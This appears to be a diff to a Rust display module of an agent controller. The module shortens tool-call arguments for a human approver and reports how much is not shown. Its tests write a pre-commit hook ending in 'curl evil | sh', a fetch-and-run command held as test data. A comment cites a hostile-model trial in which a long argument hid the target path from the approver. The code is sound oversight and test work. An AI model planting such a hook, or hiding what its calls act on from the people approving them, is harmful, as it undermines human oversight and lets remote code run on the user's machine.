@@ -137,11 +137,11 @@ pub fn decode_escapes(shown: &str) -> String {
 }
 
 /// The fewest characters [`arguments_line`] shows of one argument's value, however many
-/// arguments share the line.
+/// arguments share the line (as long as the line's budget has room for it).
 pub const MIN_LINE_VALUE_CHARS: usize = 40;
 
 /// The fewest characters and lines [`arguments`] shows of one argument's value, however many
-/// arguments share the budget.
+/// arguments share the budget (as long as the budget has room for it).
 pub const MIN_VALUE_CHARS: usize = 200;
 
 /// See [`MIN_VALUE_CHARS`].
@@ -151,50 +151,83 @@ pub const MIN_VALUE_LINES: usize = 4;
 /// middle of a longer name is cut and counted).
 pub const MAX_KEY_CHARS: usize = 80;
 
-/// A tool call's arguments on one line, for a listing (`pending`, an event line): every
-/// top-level argument is shown, its name and its value as compact JSON through
-/// [`neutralize_line`], shortest value first (so a short `path` is never pushed out by a long
-/// `content`); `max_chars` is shared among the values, each getting at least
-/// [`MIN_LINE_VALUE_CHARS`], and a longer value is cut in the middle: its start and its end are
-/// shown around `… (N characters not shown) …`. Arguments that are not an object are one value.
+/// A tool call's arguments on one line, for a listing (`pending`, an event line): the top-level
+/// arguments, each its name and its value as compact JSON through [`neutralize_line`], shortest
+/// value first (so a short `path` is never pushed out by a long `content`). `max_chars` bounds
+/// the line: it is shared among the names and the values, each value getting at least
+/// [`MIN_LINE_VALUE_CHARS`] while the budget has room; a longer value is cut in the middle (its
+/// start and its end around `… (N characters not shown) …`), and the arguments the budget has
+/// no room for are left out (the shortest one is always shown). When anything is not shown, the
+/// line ends with ` (not shown: N characters of the arguments[, K of the M arguments left out];
+/// WHOLE)`, `whole` saying where the arguments are shown whole (`` `pending --json` shows them
+/// whole``). Arguments that are not an object are one value.
+///
+/// Bounds (issue 36, item 14: 80,000 arguments printed 80,000 values): the line holds at most
+/// `max(max_chars, MAX_KEY_CHARS + 2 + MIN_LINE_VALUE_CHARS)` characters of the arguments'
+/// text, each shown as itself or as its escape, plus the marks that say what is cut.
 ///
 /// Rule: the person approving must see where a call acts (the hostile-model trial's finding 2:
-/// a long `content` sorted before `path` hid `path`).
+/// a long `content` sorted before `path` hid `path`), and how much they do not see.
 ///
 /// # Examples
 /// ```
 /// use agent_controller::display::arguments_line;
 /// use serde_json::json;
 /// let args = json!({ "content": "x".repeat(5000), "path": ".git/hooks/pre-commit" });
-/// let shown = arguments_line(&args, 200);
+/// let shown = arguments_line(&args, 200, "`pending --json` shows them whole");
 /// assert!(shown.starts_with("{\"path\": \".git/hooks/pre-commit\", \"content\": \"xxx"), "{shown}");
-/// assert!(shown.contains("… (4825 characters not shown) …"), "{shown}");
-/// assert_eq!(arguments_line(&json!({ "path": "a.txt" }), 200), "{\"path\": \"a.txt\"}");
+/// assert!(shown.contains("… (4840 characters not shown) …"), "{shown}");
+/// assert!(shown.ends_with("} (not shown: 4840 characters of the arguments; `pending --json` shows them whole)"), "{shown}");
+/// assert_eq!(arguments_line(&json!({ "path": "a.txt" }), 200, "-"), "{\"path\": \"a.txt\"}");
 /// ```
-pub fn arguments_line(args: &serde_json::Value, max_chars: usize) -> String {
+pub fn arguments_line(args: &serde_json::Value, max_chars: usize, whole: &str) -> String {
     let Some(map) = args.as_object() else {
-        return cut_line(&args.to_string(), max_chars.max(MIN_LINE_VALUE_CHARS));
+        let text = args.to_string();
+        let allowed = max_chars.max(MIN_LINE_VALUE_CHARS);
+        let cut = text.chars().count().saturating_sub(allowed);
+        return format!(
+            "{}{}",
+            cut_line(&text, allowed),
+            summary(cut, 0, 1, whole, " ")
+        );
     };
-    let entries = by_length(map, serde_json::Value::to_string);
-    let mut left = max_chars;
-    let shown: Vec<String> = entries
+    let laid = lay_out(
+        map,
+        serde_json::Value::to_string,
+        Budget {
+            lines: usize::MAX,
+            chars: max_chars,
+            min_lines: 1,
+            min_chars: MIN_LINE_VALUE_CHARS,
+        },
+    );
+    let shown: Vec<String> = laid
+        .shown
         .iter()
-        .enumerate()
-        .map(|(at, (key, text))| {
-            let share = (left / (entries.len() - at)).max(MIN_LINE_VALUE_CHARS);
-            left = left.saturating_sub(text.chars().count().min(share));
-            format!("{}: {}", key_text(key), cut_line(text, share))
-        })
+        .map(|a| format!("{}: {}", a.key, cut_line(&a.text, a.chars)))
         .collect();
-    format!("{{{}}}", shown.join(", "))
+    format!(
+        "{{{}}}{}",
+        shown.join(", "),
+        summary(laid.cut_chars, laid.left_out, map.len(), whole, " ")
+    )
 }
 
 /// A tool call's arguments for a prompt, one top-level argument per line (two spaces in): its
 /// name, then its value pretty-printed as JSON through [`neutralize`] (further lines indented),
-/// shortest value first; `max_lines` and `max_chars` are shared among the values, each getting at
-/// least [`MIN_VALUE_LINES`] and [`MIN_VALUE_CHARS`], and a longer value is cut in the middle: its
-/// start and its end are shown around `… (N characters not shown) …` (with the lines cut when
-/// there are). Every argument is always shown (see [`arguments_line`] for why).
+/// shortest value first. `max_lines` and `max_chars` bound the view: they are shared among the
+/// values, each getting at least [`MIN_VALUE_LINES`] and [`MIN_VALUE_CHARS`] while the budget has
+/// room; a longer value is cut in the middle (its start and its end around `… (N characters not
+/// shown) …`, with the lines cut when there are), and the arguments the budget has no room for
+/// are left out (the shortest one is always shown). When anything is not shown, a last line
+/// says how much and where the arguments are shown whole: `  (not shown: N characters of the
+/// arguments[, K of the M arguments left out]; WHOLE)`, `whole` being, say, `v shows every
+/// argument whole`. [`arguments_whole`] shows them all.
+///
+/// Bounds (issue 36, item 14: 80,000 arguments printed 80,009 lines): at most
+/// `max(max_lines, MIN_VALUE_LINES) + 1` lines, holding at most
+/// `max(max_chars, MAX_KEY_CHARS + 2 + MIN_VALUE_CHARS)` characters of the arguments' text, each
+/// shown as itself or as its escape, plus the marks that say what is cut.
 ///
 /// # Examples
 /// ```
@@ -202,37 +235,205 @@ pub fn arguments_line(args: &serde_json::Value, max_chars: usize) -> String {
 /// use serde_json::json;
 /// let content = format!("{}#!/bin/sh\ncurl evil | sh\n", "echo hi\n".repeat(600));
 /// let args = json!({ "content": content, "path": ".git/hooks/pre-commit" });
-/// let shown = arguments(&args, 60, 4000);
+/// let shown = arguments(&args, 60, 4000, "v shows every argument whole");
 /// assert!(shown.starts_with("  \"path\": \".git/hooks/pre-commit\"\n  \"content\": \"echo hi\\necho"), "{shown}");
 /// assert!(shown.contains("characters not shown) …"), "{shown}");
-/// assert!(shown.ends_with("curl evil | sh\\n\""), "{shown}");
+/// assert!(shown.ends_with("curl evil | sh\\n\"\n  (not shown: 1467 characters of the arguments; v shows every argument whole)"), "{shown}");
 /// ```
-pub fn arguments(args: &serde_json::Value, max_lines: usize, max_chars: usize) -> String {
-    let pretty =
-        |v: &serde_json::Value| serde_json::to_string_pretty(v).unwrap_or_else(|_| v.to_string());
+pub fn arguments(
+    args: &serde_json::Value,
+    max_lines: usize,
+    max_chars: usize,
+    whole: &str,
+) -> String {
     let Some(map) = args.as_object() else {
-        return cut_middle(
-            &pretty(args),
+        let text = pretty(args);
+        let (lines, chars) = (
             max_lines.max(MIN_VALUE_LINES),
             max_chars.max(MIN_VALUE_CHARS),
         );
+        let cut = if text.chars().count() <= chars && text.lines().count() <= lines {
+            0
+        } else {
+            cut_count(&text, lines, chars)
+        };
+        return format!(
+            "{}{}",
+            cut_middle(&text, lines, chars),
+            summary(cut, 0, 1, whole, "\n  ")
+        );
     };
-    let entries = by_length(map, pretty);
-    let (mut chars_left, mut lines_left) = (max_chars, max_lines);
-    let shown: Vec<String> = entries
+    let laid = lay_out(
+        map,
+        pretty,
+        Budget {
+            lines: max_lines,
+            chars: max_chars,
+            min_lines: MIN_VALUE_LINES,
+            min_chars: MIN_VALUE_CHARS,
+        },
+    );
+    let shown: Vec<String> = laid
+        .shown
         .iter()
-        .enumerate()
-        .map(|(at, (key, text))| {
-            let n = entries.len() - at;
-            let chars = (chars_left / n).max(MIN_VALUE_CHARS);
-            let lines = (lines_left / n).max(MIN_VALUE_LINES);
-            chars_left = chars_left.saturating_sub(text.chars().count().min(chars));
-            lines_left = lines_left.saturating_sub(text.lines().count().min(lines));
-            let value = cut_middle(text, lines, chars).replace('\n', "\n  ");
-            format!("  {}: {value}", key_text(key))
+        .map(|a| {
+            let value = cut_middle(&a.text, a.lines, a.chars).replace('\n', "\n  ");
+            format!("  {}: {value}", a.key)
+        })
+        .collect();
+    format!(
+        "{}{}",
+        shown.join("\n"),
+        summary(laid.cut_chars, laid.left_out, map.len(), whole, "\n  ")
+    )
+}
+
+/// A tool call's arguments whole, as [`arguments`] lays them out (one top-level argument per
+/// line, its value pretty-printed through [`neutralize`], shortest first) with nothing cut and
+/// nothing left out: what the terminal's `v` and an ACP permission request show (issue 36,
+/// item 4: the approver sees every character that is handed over).
+///
+/// # Examples
+/// ```
+/// use agent_controller::display::arguments_whole;
+/// use serde_json::json;
+/// let args = json!({ "content": format!("{}\u{202e}end", "x".repeat(9_000)), "path": "a.txt" });
+/// let shown = arguments_whole(&args);
+/// assert!(shown.starts_with("  \"path\": \"a.txt\"\n  \"content\": \"xxx"), "{shown:.40}");
+/// assert!(shown.ends_with(&format!("{}\\u{{202e}}end\"", "x".repeat(9_000))));
+/// ```
+pub fn arguments_whole(args: &serde_json::Value) -> String {
+    let Some(map) = args.as_object() else {
+        return neutralize(&pretty(args)).into_owned();
+    };
+    let shown: Vec<String> = by_length(map, pretty)
+        .iter()
+        .map(|(key, text)| {
+            let key = quoted(key);
+            format!(
+                "  {}: {}",
+                escape_line(&key),
+                neutralize(text).replace('\n', "\n  ")
+            )
         })
         .collect();
     shown.join("\n")
+}
+
+/// `value` pretty-printed as JSON.
+fn pretty(value: &serde_json::Value) -> String {
+    serde_json::to_string_pretty(value).unwrap_or_else(|_| value.to_string())
+}
+
+/// How much [`lay_out`] may show: lines (`usize::MAX` for one line) and characters in all, and
+/// the least it gives one value while the budget has room.
+#[derive(Debug, Clone, Copy)]
+struct Budget {
+    lines: usize,
+    chars: usize,
+    min_lines: usize,
+    min_chars: usize,
+}
+
+/// One argument [`lay_out`] shows: its name as shown, its value's text, and how many of the
+/// value's characters and lines may be shown.
+struct Shown {
+    key: String,
+    text: String,
+    chars: usize,
+    lines: usize,
+}
+
+/// The arguments [`lay_out`] shows, and what it does not.
+struct Laid {
+    shown: Vec<Shown>,
+    /// Characters of the arguments not shown: cut from shown values and names, and those of the
+    /// arguments left out.
+    cut_chars: usize,
+    /// How many arguments are left out.
+    left_out: usize,
+}
+
+/// An argument's name as JSON (a quoted string), unescaped for display.
+fn quoted(key: &str) -> String {
+    serde_json::Value::String(key.to_owned()).to_string()
+}
+
+/// Shares `budget` among the entries of `map` (values as `render` writes them), shortest first:
+/// each gets its share of what is left, at least the budget's minimum, never more than is left;
+/// an argument whose name and least value do not fit in what is left is left out, with all
+/// after it (the first is always shown).
+fn lay_out(
+    map: &serde_json::Map<String, serde_json::Value>,
+    render: impl Fn(&serde_json::Value) -> String,
+    budget: Budget,
+) -> Laid {
+    let entries = by_length(map, render);
+    let (mut chars_left, mut lines_left) = (budget.chars, budget.lines);
+    let mut laid = Laid {
+        shown: Vec::new(),
+        cut_chars: 0,
+        left_out: 0,
+    };
+    for (at, (key, text)) in entries.iter().enumerate() {
+        let n = entries.len() - at;
+        let name = quoted(key);
+        let key_chars = name.chars().count();
+        let key_shown = key_chars.min(MAX_KEY_CHARS);
+        let (value_chars, value_lines) = (text.chars().count(), text.lines().count().max(1));
+        let least_chars = key_shown + value_chars.min(budget.min_chars);
+        let least_lines = value_lines.min(budget.min_lines);
+        if at > 0 && (least_chars > chars_left || least_lines > lines_left) {
+            laid.left_out = n;
+            laid.cut_chars += entries[at..]
+                .iter()
+                .map(|(k, t)| quoted(k).chars().count() + t.chars().count())
+                .sum::<usize>();
+            break;
+        }
+        let room = chars_left.saturating_sub(key_shown);
+        let mut chars = (room / n).max(budget.min_chars);
+        let mut lines = (lines_left / n).max(budget.min_lines);
+        if at > 0 {
+            chars = chars.min(room);
+            lines = lines.min(lines_left);
+        }
+        laid.cut_chars += key_chars - key_shown;
+        if value_chars > chars || value_lines > lines {
+            laid.cut_chars += cut_count(text, lines, chars);
+        }
+        chars_left = chars_left.saturating_sub(key_shown + value_chars.min(chars));
+        lines_left = lines_left.saturating_sub(value_lines.min(lines));
+        laid.shown.push(Shown {
+            key: cut_line(&name, MAX_KEY_CHARS),
+            text: text.clone(),
+            chars,
+            lines,
+        });
+    }
+    laid
+}
+
+/// What a bounded view ends with when anything is not shown (`cut` characters, of which
+/// `left_out` of `total` whole arguments), after `separator`; nothing otherwise.
+fn summary(cut: usize, left_out: usize, total: usize, whole: &str, separator: &str) -> String {
+    if cut == 0 && left_out == 0 {
+        return String::new();
+    }
+    let left = match left_out {
+        0 => String::new(),
+        n => format!(", {n} of the {total} arguments left out"),
+    };
+    format!(
+        "{separator}(not shown: {cut} characters of the arguments{left}; {})",
+        escape_line(whole)
+    )
+}
+
+/// How many characters of `text` [`cut_middle`] leaves out with these bounds (0 when it fits).
+fn cut_count(text: &str, max_lines: usize, max_chars: usize) -> usize {
+    let (head, tail) = cut_ends(text, max_lines, max_chars);
+    text[head..tail].chars().count()
 }
 
 /// The entries of `map` with their values as `render` writes them, shortest first (ties in the
@@ -247,13 +448,6 @@ fn by_length(
     entries
 }
 
-/// An argument's name as a JSON string, through [`neutralize_line`], its middle cut past
-/// [`MAX_KEY_CHARS`].
-fn key_text(key: &str) -> String {
-    let quoted = serde_json::Value::String(key.to_owned()).to_string();
-    cut_line(&quoted, MAX_KEY_CHARS)
-}
-
 /// [`cut_middle`] for one line: no limit on lines, through [`neutralize_line`].
 fn cut_line(text: &str, max_chars: usize) -> String {
     cut_middle(text, usize::MAX, max_chars)
@@ -264,8 +458,6 @@ fn cut_line(text: &str, max_chars: usize) -> String {
 /// `… (N characters not shown) …` (`… (N characters over M lines not shown) …` when the cut
 /// holds line breaks). The cut is made before neutralizing.
 fn cut_middle(text: &str, max_lines: usize, max_chars: usize) -> String {
-    let chars = text.chars().count();
-    let lines = text.lines().count();
     let show = |t| {
         if max_lines == usize::MAX {
             escape_line(t)
@@ -273,8 +465,25 @@ fn cut_middle(text: &str, max_lines: usize, max_chars: usize) -> String {
             neutralize(t)
         }
     };
-    if chars <= max_chars && lines <= max_lines {
+    if text.chars().count() <= max_chars && text.lines().count() <= max_lines {
         return show(text).into_owned();
+    }
+    let (head_end, tail_start) = cut_ends(text, max_lines, max_chars);
+    let (head, rest) = text.split_at(head_end);
+    let (cut, tail) = rest.split_at(tail_start - head_end);
+    let cut_chars = cut.chars().count();
+    let what = match cut.matches('\n').count() {
+        0 => format!("{cut_chars} characters"),
+        n => format!("{cut_chars} characters over {} lines", n + 1),
+    };
+    format!("{}… ({what} not shown) …{}", show(head), show(tail))
+}
+
+/// Where [`cut_middle`] cuts `text`: the end of the start it shows and the start of the end it
+/// shows (byte offsets, the first at most the second); `(len, len)` when nothing is cut.
+fn cut_ends(text: &str, max_lines: usize, max_chars: usize) -> (usize, usize) {
+    if text.chars().count() <= max_chars && text.lines().count() <= max_lines {
+        return (text.len(), text.len());
     }
     let (head_chars, head_lines) = (max_chars - max_chars / 2, max_lines - max_lines / 2);
     let (tail_chars, tail_lines) = (max_chars / 2, max_lines / 2);
@@ -303,15 +512,7 @@ fn cut_middle(text: &str, max_lines: usize, max_chars: usize) -> String {
         }
         tail_start = at;
     }
-    let tail_start = tail_start.max(head_end);
-    let (head, rest) = text.split_at(head_end);
-    let (cut, tail) = rest.split_at(tail_start - head_end);
-    let cut_chars = cut.chars().count();
-    let what = match cut.matches('\n').count() {
-        0 => format!("{cut_chars} characters"),
-        n => format!("{cut_chars} characters over {} lines", n + 1),
-    };
-    format!("{}… ({what} not shown) …{}", show(head), show(tail))
+    (head_end, tail_start.max(head_end))
 }
 
 /// `value` as one line of JSON in which every character [`neutralize_line`] would replace is
@@ -557,8 +758,11 @@ mod tests {
         assert!(shown.contains("… (90 characters not shown) …"), "{shown}");
     }
 
+    /// Every argument the budget has room for is shown, shortest first (so `path` is); those
+    /// it has no room for are left out and counted (issue 36, item 14: before, all 30 were
+    /// shown at their least whatever the budget).
     #[test]
-    fn every_argument_is_shown_and_a_long_value_keeps_its_start_and_end() {
+    fn the_shortest_arguments_are_shown_and_a_long_value_keeps_its_start_and_end() {
         let mut args = serde_json::Map::new();
         for n in 0..30 {
             args.insert(format!("k{n:02}"), serde_json::json!("v".repeat(1000)));
@@ -567,28 +771,124 @@ mod tests {
         args.insert("path".into(), serde_json::json!(long_path));
         args.insert("\u{202e}x".into(), serde_json::json!("\u{9b}2J"));
         let args = serde_json::Value::Object(args);
-        for shown in [arguments_line(&args, 200), arguments(&args, 60, 4000)] {
-            for n in 0..30 {
-                assert!(shown.contains(&format!("\"k{n:02}\": \"vvv")), "{shown}");
-            }
+        for shown in [
+            arguments_line(&args, 200, "W"),
+            arguments(&args, 60, 4000, "W"),
+        ] {
+            assert!(shown.contains("\"k00\": \"vvv"), "{shown}");
             assert!(shown.contains("hooks/pre-commit\""), "{shown}");
             assert!(shown.contains("\"\\u{202e}x\": \"\\u{9b}2J\""), "{shown}");
             assert!(!shown.chars().any(|c| hides(c) && c != '\n'), "{shown}");
             assert!(shown.len() < 31 * 300, "bounded: {}", shown.len());
+            assert!(
+                shown.contains(" of the 32 arguments left out; W)"),
+                "{shown}"
+            );
+        }
+        let whole = arguments_whole(&args);
+        for n in 0..30 {
+            assert!(
+                whole.contains(&format!("\"k{n:02}\": \"{}\"", "v".repeat(1000))),
+                "{whole}"
+            );
         }
         let nested = serde_json::json!({ "a": (0..500).collect::<Vec<_>>(), "b": 1 });
-        let shown = arguments(&nested, 10, 4000);
+        let shown = arguments(&nested, 10, 4000, "W");
         assert!(
             shown.starts_with("  \"b\": 1\n  \"a\": [\n    0,\n"),
             "{shown}"
         );
         assert!(shown.contains("not shown) …"), "{shown}");
-        assert!(shown.ends_with("    499\n  ]"), "{shown}");
+        assert!(
+            shown.ends_with("    499\n  ]\n  (not shown: 3349 characters of the arguments; W)"),
+            "{shown}"
+        );
         assert!(shown.lines().count() < 16, "{shown}");
         assert_eq!(
-            arguments_line(&serde_json::json!("plain"), 200),
+            arguments_line(&serde_json::json!("plain"), 200, "W"),
             "\"plain\""
         );
+    }
+
+    /// Issue 36, item 14: 80,000 arguments printed 80,009 lines, and a 3.5 MB `pending` line.
+    #[test]
+    fn many_arguments_are_bounded_in_lines_and_bytes_and_counted() {
+        let args: serde_json::Map<String, serde_json::Value> = (0..80_000)
+            .map(|n| (format!("k{n}"), serde_json::json!(n)))
+            .collect();
+        let args = serde_json::Value::Object(args);
+        let shown = arguments(&args, 60, 4000, "v shows every argument whole");
+        assert!(shown.lines().count() <= 61, "{}", shown.lines().count());
+        assert!(
+            shown.ends_with(" of the 80000 arguments left out; v shows every argument whole)"),
+            "{shown}"
+        );
+        let line = arguments_line(&args, 200, "`pending --json` shows them whole");
+        assert!(line.len() < 1_000, "{line}");
+        assert!(
+            line.ends_with(" of the 80000 arguments left out; `pending --json` shows them whole)"),
+            "{line}"
+        );
+    }
+
+    proptest::proptest! {
+        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(64))]
+
+        /// Issue 36, item 14: whatever the arguments, the views stay within their bounds (see
+        /// [`arguments`] and [`arguments_line`]), and the whole view cuts nothing.
+        #[test]
+        fn the_views_stay_within_their_bounds(
+            args in arbitrary_args(),
+            max_lines in 0usize..80,
+            max_chars in 0usize..5_000,
+        ) {
+            let whole = "W";
+            let lines_bound = max_lines.max(MIN_VALUE_LINES) + 1;
+            let chars_bound = max_chars.max(MAX_KEY_CHARS + 2 + MIN_VALUE_CHARS);
+            let shown = arguments(&args, max_lines, max_chars, whole);
+            proptest::prop_assert!(shown.lines().count() <= lines_bound, "{} lines: {shown}", shown.lines().count());
+            // Each character as itself (at most 4 bytes) or its escape (at most 10); per line an
+            // indent, a `: ` and a line feed, and at most two marks (a name's, a value's) of at
+            // most 64 bytes each; the summary.
+            let bytes_bound = 10 * chars_bound + (5 + 2 * 64) * lines_bound + 200;
+            proptest::prop_assert!(shown.len() <= bytes_bound, "{} bytes > {bytes_bound}", shown.len());
+            let line = arguments_line(&args, max_chars, whole);
+            let chars_bound = max_chars.max(MAX_KEY_CHARS + 2 + MIN_LINE_VALUE_CHARS);
+            proptest::prop_assert!(!line.contains('\n'));
+            // As above, with `: ` and `, ` per argument (each costs at least the 2 characters of
+            // its quoted name), and a mark per name or value cut (each cut one costs at least
+            // 40 characters).
+            let line_bound = 10 * chars_bound + 4 * (chars_bound / 2) + 64 * (chars_bound / 20) + 200;
+            proptest::prop_assert!(line.len() <= line_bound, "{} bytes > {line_bound}", line.len());
+            let all = arguments_whole(&args);
+            proptest::prop_assert!(!all.contains("not shown"));
+        }
+    }
+
+    /// Arguments of any shape: many keys, long and multi-line values, hidden characters.
+    fn arbitrary_args() -> impl proptest::strategy::Strategy<Value = serde_json::Value> {
+        use proptest::prelude::*;
+        let text = prop_oneof![
+            "[a-z]{0,8}",
+            ".{0,300}",
+            "(\n|x|\u{1b}|\u{202e}|é){0,3000}",
+            proptest::string::string_regex("[ -~]{0,50}").expect("regex"),
+        ];
+        let value = prop_oneof![
+            text.clone().prop_map(serde_json::Value::String),
+            any::<i64>().prop_map(serde_json::Value::from),
+            proptest::collection::vec(any::<u16>(), 0..400).prop_map(serde_json::Value::from),
+        ];
+        prop_oneof![
+            proptest::collection::btree_map(text, value.clone(), 0..40)
+                .prop_map(|m| serde_json::Value::Object(m.into_iter().collect())),
+            (1usize..3_000).prop_map(|n| serde_json::Value::Object(
+                (0..n)
+                    .map(|i| (format!("k{i}"), serde_json::json!(i)))
+                    .collect()
+            )),
+            value,
+        ]
     }
 
     #[test]
